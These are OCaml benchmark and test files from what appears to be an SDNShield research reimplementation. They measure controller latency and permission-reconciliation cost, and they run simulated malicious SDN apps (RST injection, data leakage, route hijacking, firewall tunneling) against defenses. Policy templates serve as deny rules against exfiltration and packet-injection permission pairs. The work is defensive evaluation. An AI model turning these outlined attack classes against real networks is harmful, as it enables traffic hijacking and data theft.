      ("isolated, 4 KSDs", Some 4) ]
  in
  let rows =
    List.map
      (fun (label, ksd) ->
        let topo = Shield_net.Topology.linear 16 in
        let kernel =
          Shield_controller.Kernel.create (Shield_net.Dataplane.create topo)
        in
        let l2 = Shield_apps.L2_switch.create () in
        let mode =
          match ksd with
          | None -> Shield_controller.Runtime.Monolithic
          | Some n -> Shield_controller.Runtime.Isolated { ksd_threads = n }
        in
        let rt =
          Shield_controller.Runtime.create ~mode kernel
            [ (Shield_apps.L2_switch.app l2, Shield_controller.Api.allow_all) ]
        in
        let gen = Cbench.create ~switches:16 () in
        Shield_controller.Runtime.feed_sync rt (Cbench.next_packet_in gen);
        let m = Shield_controller.Metrics.create () in
        for _ = 1 to 100 do
          Shield_controller.Metrics.time m (fun () ->
              Shield_controller.Runtime.feed_sync rt (Cbench.next_packet_in gen))
        done;
        Shield_controller.Runtime.shutdown rt;
        let s = Shield_controller.Metrics.summarize m in
        [ label; Bench_util.fmt_us s.median;
          Printf.sprintf "[%s - %s]" (Bench_util.fmt_us s.p10)
            (Bench_util.fmt_us s.p90) ])
      modes
  in
  Bench_util.table [ "architecture"; "median latency"; "p10-p90" ] rows;
  Fmt.pr
    "@.expected: the thread hop costs microseconds over direct calls; KSD@.";
  Fmt.pr "          count barely matters at this load (§VI-A's claim).@."

(* Inclusion (Algorithm 1) ------------------------------------------------------- *)

let subnet_atom i =
  Filter.ip_subnet Filter.F_ip_dst
    (Shield_openflow.Types.ipv4_of_octets 10 (i land 0xFF) 0 0)
    (Shield_openflow.Types.prefix_mask 16)

(* (a1 ∨ a2) ∧ (a3 ∨ a4) ∧ … — the shape that stresses CNF×DNF. *)
let clausal_expr n =
  let clause i =
    Filter.disj (subnet_atom (2 * i)) (subnet_atom ((2 * i) + 1))
  in
  List.init n clause |> Filter.conj_list

let run_inclusion () =
  Bench_util.hr "Ablation: Algorithm 1 cost vs filter size (CNF x DNF)";
  let tests =
    List.map
      (fun n ->
        let a = clausal_expr n in
        let b = Filter.conj a (Filter.atom (Filter.Max_priority 100)) in
        Test.make ~name:(Printf.sprintf "clauses=%d" n)
          (Staged.stage (fun () ->
               Sys.opaque_identity (Inclusion.filter_includes a b))))
      [ 1; 2; 4; 6; 8 ]
  in
  let results = Bench_util.run_bechamel (Test.make_grouped ~name:"inclusion" tests) in
  Bench_util.table
    [ "filter size"; "latency"; "per-comparison" ]
    (List.map
       (fun (name, ns) ->
         [ name; Bench_util.fmt_ns ns;
           Printf.sprintf "%.2f us" (ns /. 1e3) ])
       results);
  Fmt.pr
    "@.expected: cost grows with the clause product (exponential worst@.";
  Fmt.pr
    "          case, guarded by the max_clauses cutoff) — acceptable@.";
  Fmt.pr "          because comparison runs at install time, not per call.@."
