(* Shared helpers for the benchmark harness: section headers, table
   printing, and a thin wrapper over Bechamel for the
   microbenchmarks. *)

open Bechamel
open Toolkit

let hr title =
  Fmt.pr "@.==================================================================@.";
  Fmt.pr "%s@." title;
  Fmt.pr "==================================================================@."

let subhr title = Fmt.pr "@.--- %s ---@." title

(** Print an aligned table: [header] row then [rows]. *)
let table header rows =
  let all = header :: rows in
  let cols = List.length header in
  let width c =
    List.fold_left (fun w row -> max w (String.length (List.nth row c))) 0 all
  in
  let widths = List.init cols width in
  let print_row row =
    List.iteri
      (fun c cell -> Fmt.pr "%-*s  " (List.nth widths c) cell)
      row;
    Fmt.pr "@."
  in
  print_row header;
  print_row (List.map (fun w -> String.make w '-') widths);
  List.iter print_row rows

(** Run a Bechamel test group; returns (name, ns/run) per test. *)
let run_bechamel ?(quota = 1.0) (test : Test.t) : (string * float) list =
  let ols =
    Analyze.ols ~bootstrap:0 ~r_square:true ~predictors:[| Measure.run |]
  in
  let instance = Instance.monotonic_clock in
  let cfg =
    Benchmark.cfg ~limit:3000 ~quota:(Time.second quota) ~stabilize:true ()
  in
  let raw = Benchmark.all cfg [ instance ] test in
  let results = Analyze.all ols instance raw in
  Hashtbl.fold
    (fun name ols acc ->
      match Analyze.OLS.estimates ols with
      | Some (est :: _) -> (name, est) :: acc
      | _ -> acc)
    results []
  |> List.sort compare

let ns_to_ops ns = 1e9 /. ns

let fmt_ops ns = Printf.sprintf "%.2f M ops/s" (ns_to_ops ns /. 1e6)
let fmt_ns ns = Printf.sprintf "%.0f ns" ns
let fmt_us s = Printf.sprintf "%.1f us" (s *. 1e6)

(** Wall-clock one thunk. *)
let timed f =
  let t0 = Unix.gettimeofday () in
  let r = f () in
  (r, Unix.gettimeofday () -. t0)
