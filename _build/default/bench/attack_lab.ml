(* Shared attack-experiment scaffolding for Table I and the §IX-B1
   effectiveness experiment: runs each attack class end-to-end under a
   configurable defense and reports the observable outcome. *)

open Shield_openflow
open Shield_net
open Shield_controller
open Shield_apps
open Sdnshield

type defense = No_defense | Slicing | State_analysis | Sdnshield_scenario

let defense_name = function
  | No_defense -> "no defense"
  | Slicing -> "traffic isolation"
  | State_analysis -> "state analysis"
  | Sdnshield_scenario -> "SDNShield"

type outcome = Succeeded | Blocked | Detected

let outcome_name = function
  | Succeeded -> "VULNERABLE"
  | Blocked -> "protected"
  | Detected -> "detected (post-hoc)"

let host topo n = Option.get (Topology.host_by_name topo n)

(* Scenario-1 permissions (reconciled) for apps whose cover story is
   monitoring; Scenario-2 permissions for apps posing as routing. *)
let scenario1_checker ~ownership ~topo name cookie =
  match
    Reconcile.run_strings ~app_name:name ~manifest_src:Monitoring.manifest_src
      ~policy_src:
        (Monitoring.policy_src ~switches:[ 1; 2; 3 ] ~admin_subnet:"10.1.0.0"
           ~admin_mask:"255.255.0.0")
  with
  | Ok (m, _) ->
    Engine.checker (Engine.create ~topo ~ownership ~app_name:name ~cookie m)
  | Error e -> failwith e

let scenario2_checker ~ownership ~topo name cookie =
  Engine.checker
    (Engine.create ~topo ~ownership ~app_name:name ~cookie
       (Perm_parser.manifest_exn Routing.manifest_src))

let checker_for defense ~scenario ~ownership ~topo name cookie =
  match defense with
  | No_defense | State_analysis -> Api.allow_all
  | Slicing ->
    (* Attacker and victim share the slice — the collaborative-apps
       setting Table I highlights. *)
    Defenses.slicing_checker Defenses.full_slice
  | Sdnshield_scenario -> (
    match scenario with
    | `Monitoring -> scenario1_checker ~ownership ~topo name cookie
    | `Routing -> scenario2_checker ~ownership ~topo name cookie)

let http_pkt_in topo =
  let h1 = host topo "h1" and h2 = host topo "h2" in
  Events.Packet_in
    { Message.dpid = 1; in_port = h1.Topology.attachment.Topology.port;
      packet =
        Packet.http_request ~src:h1.Topology.mac ~dst:h2.Topology.mac
          ~nw_src:h1.Topology.ip ~nw_dst:h2.Topology.ip ~tp_src:5000 ();
      reason = Message.No_match; buffer_id = None }

let judge defense ~succeeded ~rule_trace_detectable dp =
  match defense with
  | State_analysis ->
    let violations = Defenses.analyze_rules dp in
    if rule_trace_detectable violations then Detected
    else if succeeded then Succeeded
    else Blocked
  | _ -> if succeeded then Succeeded else Blocked

(** Class 1: packet-in sniffing + TCP RST injection. *)
let run_class1 defense : outcome =
  let topo = Topology.linear 3 in
  let dp = Dataplane.create topo in
  let kernel = Kernel.create dp in
  let ownership = Ownership.create () in
  let atk = Attacks.rst_injector () in
  let checker =
    checker_for defense ~scenario:`Monitoring ~ownership ~topo "rst_injector" 1
  in
  let rt = Runtime.create ~mode:Runtime.Monolithic kernel [ (atk.Attacks.app, checker) ] in
  Runtime.feed_sync rt (http_pkt_in topo);
  Runtime.shutdown rt;
  judge defense
    ~succeeded:(Attacks.rst_delivered kernel ~app:"rst_injector")
    ~rule_trace_detectable:(fun _ -> false) (* no rule trace to see *)
    dp

(** Class 2: information leakage over the host network. *)
let run_class2 defense : outcome =
  let topo = Topology.linear 3 in
  let dp = Dataplane.create topo in
  let kernel = Kernel.create dp in
  let ownership = Ownership.create () in
  let atk = Attacks.info_leaker () in
  let checker =
    checker_for defense ~scenario:`Monitoring ~ownership ~topo "info_leaker" 1
  in
  let rt = Runtime.create ~mode:Runtime.Monolithic kernel [ (atk.Attacks.app, checker) ] in
  Runtime.feed_sync rt Attacks.tick_event;
  Runtime.shutdown rt;
  judge defense
    ~succeeded:
      (Attacks.leak_succeeded kernel.Kernel.sandbox ~app:"info_leaker"
         ~attacker_ip:atk.Attacks.attacker_ip)
    ~rule_trace_detectable:(fun _ -> false)
    dp

(** Class 3: route hijacking (rule manipulation). *)
let run_class3 defense : outcome =
  let topo = Topology.linear 3 in
  let dp = Dataplane.create topo in
  let kernel = Kernel.create dp in
  let ownership = Ownership.create () in
  let routing = Routing.create () in
  let victim = host topo "h3" in
  let atk =
    Attacks.route_hijacker ~victim_dst_ip:victim.Topology.ip ~mitm_host:"h2" ()
  in
  let routing_checker =
    (* The benign routing app always runs under its own least-privilege
       permissions when SDNShield is deployed. *)
    match defense with
    | Sdnshield_scenario -> scenario2_checker ~ownership ~topo "routing" 1
    | _ -> Api.allow_all
  in
  let atk_checker =
    checker_for defense ~scenario:`Routing ~ownership ~topo "route_hijacker" 2
  in
  let rt =
    Runtime.create ~mode:Runtime.Monolithic kernel
      [ (Routing.app routing, routing_checker); (atk.Attacks.app, atk_checker) ]
  in
  Runtime.feed_sync rt Attacks.tick_event;
  Runtime.shutdown rt;
  judge defense
    ~succeeded:
      (Attacks.hijack_succeeded dp ~src:(host topo "h1") ~dst:victim
         ~mitm:(host topo "h2"))
    ~rule_trace_detectable:(Defenses.has_violation `Shadowing)
    dp

(** Class 4: dynamic-flow tunnel through the firewall app. *)
let run_class4 defense : outcome =
  let topo = Topology.linear 3 in
  let dp = Dataplane.create topo in
  let kernel = Kernel.create dp in
  let ownership = Ownership.create () in
  let fw = Firewall.create () in
  let atk = Attacks.tunnel_app ~src_host:"h1" ~dst_host:"h3" () in
  let fw_checker =
    match defense with
    | Sdnshield_scenario ->
      Engine.checker
        (Engine.create ~topo ~ownership ~app_name:"firewall" ~cookie:1
           (Perm_parser.manifest_exn Firewall.manifest_src))
    | _ -> Api.allow_all
  in
  let atk_checker =
    checker_for defense ~scenario:`Routing ~ownership ~topo "tunnel_app" 2
  in
  let rt =
    Runtime.create ~mode:Runtime.Monolithic kernel
      [ (Firewall.app fw, fw_checker); (atk.Attacks.app, atk_checker) ]
  in
  Runtime.feed_sync rt Attacks.tick_event;
  Runtime.shutdown rt;
  judge defense
    ~succeeded:
      (Attacks.tunnel_succeeded dp ~src:(host topo "h1") ~dst:(host topo "h3") ())
    ~rule_trace_detectable:(Defenses.has_violation `Header_rewrite_pair)
    dp

let classes =
  [ ("Class 1: data-plane intrusion (RST injection)", run_class1);
    ("Class 2: information leakage", run_class2);
    ("Class 3: rule manipulation (route hijack)", run_class3);
    ("Class 4: attacking other apps (flow tunnel)", run_class4) ]
