(* §IX-B1 effectiveness experiments.

   1. The four proof-of-concept malicious apps run on the original
      (unprotected) controller and on the SDNShield-enabled controller
      with the §VII scenario permissions.  Paper: "original Floodlight
      is vulnerable to all the attacks, while SDNShield-enabled
      Floodlight is immune to all of them."

   2. Reconciliation effectiveness: over-privileged manifests are
      checked against attack-pattern security policies.  Paper: "the
      over-privilege problem can be effectively prevented ... the only
      exception is apps that essentially require access to the
      resources that enable certain attacks." *)

open Sdnshield

let run_attacks () =
  Bench_util.hr "Effectiveness: PoC malicious apps (baseline vs SDNShield)";
  let rows =
    List.map
      (fun (name, run_class) ->
        [ name;
          Attack_lab.outcome_name (run_class Attack_lab.No_defense);
          Attack_lab.outcome_name (run_class Attack_lab.Sdnshield_scenario) ])
      Attack_lab.classes
  in
  Bench_util.table [ "attack"; "original controller"; "SDNShield" ] rows;
  Fmt.pr "@.paper: baseline vulnerable to all four; SDNShield immune to all.@."

(* Over-privileged manifest × per-attack-class policy templates. *)

let greedy_manifest =
  Perm_parser.manifest_exn
    "PERM read_flow_table\nPERM insert_flow\nPERM delete_flow\nPERM flow_event\n\
     PERM visible_topology\nPERM read_statistics\nPERM read_payload\n\
     PERM send_pkt_out\nPERM pkt_in_event\nPERM host_network\nPERM file_system\n\
     PERM process_runtime"

let templates =
  [ ( "class1: no remote packet injection",
      "ASSERT EITHER { PERM host_network } OR { PERM send_pkt_out }",
      (* The combination that had to disappear. *)
      [ Token.Host_network; Token.Send_pkt_out ] );
    ( "class2: no exfiltration channel",
      "ASSERT EITHER { PERM host_network } OR { PERM read_payload }",
      [ Token.Host_network; Token.Read_payload ] );
    ( "class3: confined rule writers",
      "LET appPerm = APP greedy\n\
       LET bound = {\n\
       PERM insert_flow LIMITING ACTION FORWARD AND OWN_FLOWS AND MAX_PRIORITY 400\n\
       PERM delete_flow LIMITING OWN_FLOWS\n\
       PERM visible_topology\nPERM flow_event\nPERM pkt_in_event\n\
       PERM read_payload\nPERM send_pkt_out\nPERM read_flow_table\n\
       PERM read_statistics\n\
       }\n\
       ASSERT appPerm <= bound",
      [] );
    ( "class4: no tunnel endpoints",
      "LET appPerm = APP greedy\n\
       LET bound = {\n\
       PERM insert_flow LIMITING ACTION FORWARD AND OWN_FLOWS\n\
       PERM delete_flow LIMITING OWN_FLOWS\n\
       PERM read_flow_table LIMITING OWN_FLOWS\n\
       PERM visible_topology\nPERM flow_event\nPERM pkt_in_event\n\
       PERM read_payload\nPERM send_pkt_out\nPERM read_statistics\n\
       PERM host_network\nPERM file_system\nPERM process_runtime\n\
       }\n\
       ASSERT appPerm <= bound",
      [] ) ]

let run_reconciliation () =
  Bench_util.hr
    "Effectiveness: reconciliation of over-privileged manifests";
  let rows =
    List.map
      (fun (name, policy_src, forbidden_pair) ->
        let policy = Policy_parser.of_string_exn policy_src in
        let report = Reconcile.run ~apps:[ ("greedy", greedy_manifest) ] policy in
        let final = List.assoc "greedy" report.Reconcile.manifests in
        let pair_removed =
          match forbidden_pair with
          | [ a; b ] ->
            not (Perm.grants_token final a && Perm.grants_token final b)
          | _ -> true
        in
        [ name;
          string_of_int (List.length report.Reconcile.violations);
          Printf.sprintf "%d -> %d" (List.length greedy_manifest) (List.length final);
          (if pair_removed then "yes" else "NO") ])
      templates
  in
  Bench_util.table
    [ "policy template"; "violations"; "tokens before -> after"; "threat removed?" ]
    rows;
  Fmt.pr
    "@.paper: over-privilege is cut back by the policies; apps that\n\
     inherently need attack-enabling resources (e.g. forwarding apps\n\
     inserting rules) remain the acknowledged limitation of access control.@."
