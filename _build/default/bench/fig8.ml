(* Figure 8 — scalability of the SDNShield runtime: latency overhead
   as (a) the number of concurrent apps grows and (b) the per-app
   complexity (API calls issued per event) grows.

   Paper result: "the latency overhead of SDNShield increases linearly
   with the number of concurrent apps and the complexity of apps". *)

open Shield_openflow
open Shield_net
open Shield_controller
open Sdnshield

let rounds = 60

(* A synthetic app issuing [calls_per_event] statistics reads per
   received event — pure permission-engine + KSD load. *)
let load_app ~name ~calls_per_event =
  App.make
    ~subscriptions:[ Api.E_app "load-tick" ]
    ~handle:(fun ctx ev ->
      match ev with
      | Events.App_published { tag = "load-tick"; _ } ->
        for _ = 1 to calls_per_event do
          ignore (ctx.App.call (Api.Read_stats (Stats.request ~dpid:1 Stats.Port_level)))
        done
      | _ -> ())
    name

let tick = Events.App_published { source = "env"; tag = "load-tick"; payload = "" }

let manifest_src = "PERM read_statistics LIMITING PORT_LEVEL OR FLOW_LEVEL"

let latency ~shield ~apps ~calls_per_event =
  let topo = Topology.linear 4 in
  let kernel = Kernel.create (Dataplane.create topo) in
  let ownership = Ownership.create () in
  let instances =
    List.init apps (fun i ->
        let name = Printf.sprintf "load%d" i in
        let checker =
          if shield then
            Engine.checker
              (Engine.create ~topo ~ownership ~app_name:name ~cookie:(i + 1)
                 (Perm_parser.manifest_exn manifest_src))
          else Api.allow_all
        in
        (load_app ~name ~calls_per_event, checker))
  in
  let mode =
    if shield then Runtime.Isolated { ksd_threads = 2 } else Runtime.Monolithic
  in
  let rt = Runtime.create ~mode kernel instances in
  Runtime.feed_sync rt tick (* warm-up *);
  let m = Metrics.create () in
  for _ = 1 to rounds do
    Metrics.time m (fun () -> Runtime.feed_sync rt tick)
  done;
  Runtime.shutdown rt;
  (Metrics.summarize m).Metrics.median

let run () =
  Bench_util.hr "Figure 8: scalability of the latency overhead";
  Bench_util.subhr "(a) vs number of concurrent apps (10 calls/app/event)";
  let rows_a =
    List.map
      (fun apps ->
        let base = latency ~shield:false ~apps ~calls_per_event:10 in
        let shield = latency ~shield:true ~apps ~calls_per_event:10 in
        [ string_of_int apps; Bench_util.fmt_us base; Bench_util.fmt_us shield;
          Bench_util.fmt_us (shield -. base);
          Printf.sprintf "%.2f" ((shield -. base) *. 1e6 /. float_of_int apps) ])
      [ 1; 2; 4; 8; 16; 32 ]
  in
  Bench_util.table
    [ "apps"; "baseline"; "SDNShield"; "overhead"; "overhead/app (us)" ]
    rows_a;
  Bench_util.subhr "(b) vs app complexity (1 app, N calls/event)";
  let rows_b =
    List.map
      (fun calls ->
        let base = latency ~shield:false ~apps:1 ~calls_per_event:calls in
        let shield = latency ~shield:true ~apps:1 ~calls_per_event:calls in
        [ string_of_int calls; Bench_util.fmt_us base; Bench_util.fmt_us shield;
          Bench_util.fmt_us (shield -. base);
          Printf.sprintf "%.2f" ((shield -. base) *. 1e6 /. float_of_int calls) ])
      [ 10; 50; 100; 200; 500; 1000 ]
  in
  Bench_util.table
    [ "calls/event"; "baseline"; "SDNShield"; "overhead"; "overhead/call (us)" ]
    rows_b;
  Fmt.pr
    "@.paper: overhead grows linearly in both dimensions (near-constant@.";
  Fmt.pr "       overhead/app and overhead/call columns confirm linearity).@."
