(* Reconciliation-engine cost (§IX-A): the paper omits a figure because
   reconciliation happens only at app-installation time and "the
   processing time never exceeds one second during our pressure tests".
   This harness reproduces that pressure test. *)

open Shield_workload
open Sdnshield

(* Mutual exclusions over all token pairs = 105 constraints, plus one
   boundary per app — far beyond any realistic deployment. *)
let pressure_policy_src n_apps =
  let buf = Buffer.create 4096 in
  let tokens = List.map Token.to_string Token.all in
  List.iteri
    (fun i a ->
      List.iteri
        (fun j b ->
          if i < j then
            Buffer.add_string buf
              (Printf.sprintf "ASSERT EITHER { PERM %s } OR { PERM %s }\n" a b))
        tokens)
    tokens;
  for i = 0 to n_apps - 1 do
    Buffer.add_string buf (Printf.sprintf "LET app%d = APP app%d\n" i i);
    Buffer.add_string buf
      (Printf.sprintf
         "ASSERT app%d <= { PERM insert_flow PERM read_statistics PERM \
          visible_topology }\n"
         i)
  done;
  Buffer.contents buf

let run () =
  Bench_util.hr "Reconciliation engine pressure test (install-time cost)";
  let rows =
    List.map
      (fun n_apps ->
        let apps =
          List.init n_apps (fun i ->
              ( Printf.sprintf "app%d" i,
                Perm_gen.generate ~seed:i ~complexity:Perm_gen.Large
                  ~focus:`Insert () ))
        in
        let policy = Policy_parser.of_string_exn (pressure_policy_src n_apps) in
        let statements = List.length policy in
        let report, elapsed =
          Bench_util.timed (fun () -> Reconcile.run ~apps policy)
        in
        [ string_of_int n_apps; string_of_int statements;
          string_of_int (List.length report.Reconcile.violations);
          Printf.sprintf "%.1f ms" (elapsed *. 1e3);
          (if elapsed < 1.0 then "yes" else "NO") ])
      [ 1; 4; 16; 64 ]
  in
  Bench_util.table
    [ "apps"; "policy statements"; "violations"; "time"; "under 1 s?" ]
    rows;
  Fmt.pr "@.paper: reconciliation never exceeded one second under pressure.@."
