(* The high-level policy language (§VI-C): compilation correctness
   (decision-tree semantics vs the flow-table the compiler emits),
   ownership tracking through composition, and per-owner deployment
   checking with partial denial. *)

open Shield_openflow
open Shield_openflow.Types
open Shield_net
open Shield_controller
open Shield_hll
open Sdnshield

let ip = ipv4_of_string

let pkt ?(tp_dst = 80) ?(nw_dst = "10.0.0.2") () =
  Packet.tcp ~src:11 ~dst:22 ~nw_src:(ip "10.0.0.1") ~nw_dst:(ip nw_dst)
    ~tp_src:999 ~tp_dst ()

(* Install compiled rules into one switch and observe its behaviour. *)
let table_of policy =
  let sw = Switch.create ~dpid:1 ~ports:[ 1; 2; 3 ] in
  List.iter
    (fun (_, fm) -> ignore (Switch.apply_flow_mod sw fm))
    (Compiler.to_flow_mods ~switches:[ 1 ] (Compiler.compile policy));
  sw

let out_ports sw p =
  Switch.process sw ~in_port:1 p
  |> List.filter_map (function Switch.Forward (port, _) -> Some port | _ -> None)

let test_compile_if_else_semantics () =
  let policy =
    Syntax.if_ (Syntax.tcp_dst 80) ~then_:(Syntax.Forward 2) ~else_:Syntax.Drop
  in
  let sw = table_of policy in
  Alcotest.(check (list int)) "http forwarded" [ 2 ] (out_ports sw (pkt ()));
  Alcotest.(check (list int)) "telnet dropped" [] (out_ports sw (pkt ~tp_dst:23 ()))

let test_compile_nested_decision_tree () =
  let open Syntax in
  let policy =
    if_
      (ip_dst_subnet (ip "10.0.0.0") (prefix_mask 8))
      ~then_:(if_ (tcp_dst 80) ~then_:(Forward 2) ~else_:(Forward 3))
      ~else_:Drop
  in
  let sw = table_of policy in
  Alcotest.(check (list int)) "inner then" [ 2 ] (out_ports sw (pkt ()));
  Alcotest.(check (list int)) "inner else" [ 3 ] (out_ports sw (pkt ~tp_dst:22 ()));
  Alcotest.(check (list int)) "outer else" []
    (out_ports sw (pkt ~nw_dst:"192.168.0.1" ()))

let test_compile_or_expands () =
  let open Syntax in
  let policy =
    if_ (tcp_dst 80 ||. tcp_dst 443) ~then_:(Forward 2) ~else_:Drop
  in
  let sw = table_of policy in
  Alcotest.(check (list int)) "http" [ 2 ] (out_ports sw (pkt ()));
  Alcotest.(check (list int)) "https" [ 2 ] (out_ports sw (pkt ~tp_dst:443 ()));
  Alcotest.(check (list int)) "other" [] (out_ports sw (pkt ~tp_dst:22 ()))

let test_compile_contradiction_prunes () =
  let open Syntax in
  (* tcp_dst 80 AND tcp_dst 443 is unsatisfiable: branch pruned. *)
  let rules =
    Compiler.compile
      (if_ (tcp_dst 80 &&. tcp_dst 443) ~then_:(Forward 2) ~else_:Drop)
  in
  Alcotest.(check int) "only the else rule" 1 (List.length rules)

let test_compile_modify_then_forward () =
  let open Syntax in
  let policy = Modify (Action.Set_tp_dst 8080, Forward 2) in
  let sw = table_of policy in
  match Switch.process sw ~in_port:1 (pkt ()) with
  | [ Switch.Forward (2, p) ] ->
    Alcotest.(check int) "rewritten" 8080 (Option.get p.Packet.tp).Packet.tp_dst
  | _ -> Alcotest.fail "expected rewrite+forward"

let test_compile_union_left_bias () =
  let open Syntax in
  let policy =
    if_ (tcp_dst 80) ~then_:(Forward 2) ~else_:Drop
    ||| if_ (tcp_dst 80) ~then_:(Forward 3) ~else_:Drop
  in
  let sw = table_of policy in
  (* Overlap resolved by priority: the left policy's rule wins. *)
  Alcotest.(check (list int)) "left wins" [ 2 ] (out_ports sw (pkt ()))

let test_compile_on_switch_scoping () =
  let open Syntax in
  let rules = Compiler.compile (on 2 (Forward 1)) in
  (match rules with
  | [ r ] -> Alcotest.(check (option int)) "scoped" (Some 2) r.Compiler.dpid
  | _ -> Alcotest.fail "one rule expected");
  (* Conflicting nesting compiles to nothing. *)
  Alcotest.(check int) "contradictory scope" 0
    (List.length (Compiler.compile (on 2 (on 3 (Forward 1)))))

let test_compile_not_unsupported () =
  let open Syntax in
  Alcotest.check_raises "negation rejected"
    (Compiler.Unsupported
       "negated predicates: express the complement with if/else ordering")
    (fun () ->
      ignore (Compiler.compile (if_ (Not (tcp_dst 80)) ~then_:Drop ~else_:Drop)))

let test_ownership_tracking () =
  let open Syntax in
  let policy =
    tag "fw" (if_ (tcp_dst 80) ~then_:(tag "router" (Forward 2)) ~else_:Drop)
  in
  let rules = Compiler.compile policy in
  let fwd = List.find (fun r -> r.Compiler.actions <> []) rules in
  let drop = List.find (fun r -> r.Compiler.actions = []) rules in
  Alcotest.(check (slist string compare)) "composed rule has both owners"
    [ "fw"; "router" ] fwd.Compiler.owners;
  Alcotest.(check (list string)) "drop owned by fw only" [ "fw" ] drop.Compiler.owners

(* Deployment through per-owner engines ------------------------------------------ *)

let engines_for specs =
  let ownership = Ownership.create () in
  List.map
    (fun (name, cookie, src) ->
      ( name,
        Engine.create ~ownership ~app_name:name ~cookie
          (Perm_parser.manifest_exn src) ))
    specs

let test_deploy_strict_blocks_unauthorized_owner () =
  let open Syntax in
  let engines =
    engines_for
      [ ("fw", 1, "PERM insert_flow");
        ("router", 2, "PERM insert_flow LIMITING ACTION FORWARD AND MAX_PRIORITY 100") ]
  in
  (* Compiled band sits at priority ~60000: the router's MAX_PRIORITY
     100 bound rejects every rule it co-owns. *)
  let policy =
    tag "fw" (if_ (tcp_dst 80) ~then_:(tag "router" (Forward 2)) ~else_:Drop)
  in
  let installed = ref [] in
  let report =
    Deploy.deploy ~mode:Deploy.Strict ~engines ~switches:[ 1 ]
      ~install:(fun d fm -> installed := (d, fm) :: !installed)
      policy
  in
  Alcotest.(check int) "co-owned rule rejected" 1 report.Deploy.rejected_rules;
  Alcotest.(check int) "fw-only drop installed" 1 report.Deploy.installed_rules;
  let v = List.find (fun v -> not v.Deploy.installed) report.Deploy.verdicts in
  (match v.Deploy.denied with
  | [ ("router", _) ] -> ()
  | _ -> Alcotest.fail "router should be the denied owner");
  Alcotest.(check int) "one flow-mod hit the plane" 1 (List.length !installed)

let test_deploy_partial_mode () =
  let open Syntax in
  let engines =
    engines_for
      [ ("fw", 1, "PERM insert_flow");
        ("router", 2, "PERM insert_flow LIMITING MAX_PRIORITY 100") ]
  in
  let policy =
    tag "fw" (if_ (tcp_dst 80) ~then_:(tag "router" (Forward 2)) ~else_:Drop)
  in
  let report =
    Deploy.deploy ~mode:Deploy.Partial ~engines ~switches:[ 1 ]
      ~install:(fun _ _ -> ())
      policy
  in
  (* Partial denial (§VI-C): the rule installs on the authorised
     owner's authority, the denial is reported. *)
  Alcotest.(check int) "all rules installed" 2 report.Deploy.installed_rules;
  let v =
    List.find (fun v -> v.Deploy.denied <> []) report.Deploy.verdicts
  in
  Alcotest.(check (list string)) "fw authorised" [ "fw" ] v.Deploy.authorized

let test_deploy_untagged_rules_pass () =
  let report =
    Deploy.deploy ~mode:Deploy.Strict ~engines:[] ~switches:[ 1 ]
      ~install:(fun _ _ -> ())
      (Syntax.Forward 1)
  in
  Alcotest.(check int) "controller-internal rule installs" 1
    report.Deploy.installed_rules

let test_deploy_end_to_end_dataplane () =
  (* Full pipeline: HLL firewall policy -> compile -> per-owner check ->
     install -> observable packet behaviour. *)
  let open Syntax in
  let topo = Topology.linear 2 in
  let dp = Dataplane.create topo in
  let kernel = Kernel.create dp in
  let engines = engines_for [ ("fw", 1, "PERM insert_flow") ] in
  let policy =
    tag "fw"
      (if_
         (Test (Eth_type_is Eth_ip) &&. tcp_dst 80)
         ~then_:(Forward 2) ~else_:Drop)
  in
  let report =
    Deploy.deploy ~mode:Deploy.Strict ~engines ~switches:[ 1 ]
      ~install:(fun d fm ->
        ignore (Kernel.exec kernel ~app:"fw" ~cookie:1 (Api.Install_flow (d, fm))))
      policy
  in
  Alcotest.(check int) "all installed" 2 report.Deploy.installed_rules;
  let r80 = Dataplane.inject_at dp ~dpid:1 ~in_port:3 (pkt ()) in
  Alcotest.(check int) "http leaves on port 2 (to s2)" 0 r80.Dataplane.dropped;
  let r23 = Dataplane.inject_at dp ~dpid:1 ~in_port:3 (pkt ~tp_dst:23 ()) in
  Alcotest.(check int) "telnet dropped" 1 r23.Dataplane.dropped

let suite =
  [ Alcotest.test_case "if/else semantics" `Quick test_compile_if_else_semantics;
    Alcotest.test_case "nested decision tree" `Quick test_compile_nested_decision_tree;
    Alcotest.test_case "or expansion" `Quick test_compile_or_expands;
    Alcotest.test_case "contradiction pruning" `Quick test_compile_contradiction_prunes;
    Alcotest.test_case "modify-then-forward" `Quick test_compile_modify_then_forward;
    Alcotest.test_case "union left bias" `Quick test_compile_union_left_bias;
    Alcotest.test_case "switch scoping" `Quick test_compile_on_switch_scoping;
    Alcotest.test_case "negation unsupported" `Quick test_compile_not_unsupported;
    Alcotest.test_case "ownership tracking" `Quick test_ownership_tracking;
    Alcotest.test_case "deploy: strict" `Quick test_deploy_strict_blocks_unauthorized_owner;
    Alcotest.test_case "deploy: partial denial" `Quick test_deploy_partial_mode;
    Alcotest.test_case "deploy: untagged passes" `Quick test_deploy_untagged_rules_pass;
    Alcotest.test_case "deploy: end-to-end" `Quick test_deploy_end_to_end_dataplane ]
