(* Shared helpers for the test suites. *)

open Shield_openflow
open Shield_net
open Shield_controller

let ip = Types.ipv4_of_string
let mac = Types.mac_of_int

(** A linear topology of [n] switches, one host per switch, with its
    dataplane and kernel. *)
let linear_setup ?(hosts_per_switch = 1) n =
  let topo = Topology.linear ~hosts_per_switch n in
  let dp = Dataplane.create topo in
  let kernel = Kernel.create dp in
  (topo, dp, kernel)

let host topo name =
  match Topology.host_by_name topo name with
  | Some h -> h
  | None -> Alcotest.failf "no host %s" name

(** Build a runtime over a fresh kernel with the given (app, checker)
    pairs; returns (topo, dataplane, kernel, runtime). *)
let runtime_setup ?(mode = Runtime.Monolithic) ?(switches = 3)
    ?(hosts_per_switch = 1) apps =
  let topo, dp, kernel = linear_setup ~hosts_per_switch switches in
  let rt = Runtime.create ~mode kernel apps in
  (topo, dp, kernel, rt)

(** An SDNShield checker for [manifest_src] (parsed), sharing
    [ownership] (fresh by default). *)
let engine_of ?(ownership = Sdnshield.Ownership.create ()) ?topo ~name ~cookie
    manifest_src =
  let manifest = Sdnshield.Perm_parser.manifest_exn manifest_src in
  Sdnshield.Engine.create ?topo ~ownership ~app_name:name ~cookie manifest

let checker_of ?ownership ?topo ~name ~cookie manifest_src =
  Sdnshield.Engine.checker (engine_of ?ownership ?topo ~name ~cookie manifest_src)

(* Alcotest helpers. *)

let check_allow what (d : Api.decision) =
  match d with
  | Api.Allow -> ()
  | Api.Deny why -> Alcotest.failf "%s: expected Allow, got Deny (%s)" what why

let check_deny what (d : Api.decision) =
  match d with
